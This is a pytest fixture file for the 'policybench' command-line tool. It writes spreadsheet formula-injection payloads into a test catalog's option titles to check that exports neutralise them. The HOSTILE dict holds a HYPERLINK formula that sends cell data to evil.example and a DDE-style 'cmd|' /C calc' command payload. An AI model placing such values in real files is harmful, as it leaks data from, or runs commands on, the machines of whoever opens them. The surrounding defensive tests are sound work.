"""What the command-line tests share: ``pb`` runs ``policybench ...`` on the tiny catalog,
:func:`ok_json` reads what a command printed as JSON, and ``hostile_options`` is the tiny
catalog with option titles that a spreadsheet would run as formulas (:data:`HOSTILE`);
``careful_profile`` is a profile file with a threshold of its own."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result
from typer.testing import CliRunner

from policybench import catalog
from policybench.cli import app

runner = CliRunner()

#: Catalog text that a spreadsheet would run as a formula if written as it is.
HOSTILE = {
    "formula_title": '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "minus_title": "-2+3",
    "at_title": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def pb(tiny_options: Path) -> Callable[..., Result]:
    """Run ``policybench ARGS --options <the tiny catalog>``; no run may end in a traceback."""

    def run(*args: str) -> Result:
        result = runner.invoke(app, [*args, "--options", str(tiny_options)])
        assert "Traceback" not in result.output
        return result

    return run


def ok_json(result: Result) -> Any:
    """The JSON a command printed on stdout, after checking it exited 0."""
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


@pytest.fixture
def hostile_options(copy_catalog: Any) -> Path:
    """The tiny catalog with formula-like option titles (the exporters' own tests hold the
    whole hostile catalog; these check that the command writes what they neutralise)."""
    root = copy_catalog()
    for name, old, new in (
        ("liaison", "Liaison officers", HOSTILE["formula_title"]),
        ("summits", "Regular summits", HOSTILE["minus_title"]),
        ("two-plus-two", "A 2+2 meeting", HOSTILE["at_title"]),
    ):
        path = root / "policies" / f"{name}.yaml"
        path.write_text(path.read_text().replace(f"title: {old}", f"title: {json.dumps(new)}"))
    return root


@pytest.fixture
def careful_profile(tiny_options: Path, tmp_path: Path) -> Path:
    """A profile file for the tiny catalog ("careful": equal weights) that requires
    ``backlash<=5``, which sets Liaison officers (backlash 6) aside."""
    path = tmp_path / "careful.json"
    document = {
        "format": "policybench-profile",
        "format_version": 2,
        "name": "careful",
        "weights": {"feasibility": 1, "deterrence": 1, "backlash": 1},
        "require": ["backlash<=5"],
        "catalog": {"fingerprint": catalog.load(tiny_options).fingerprint},
    }
    path.write_text(json.dumps(document))
    return path
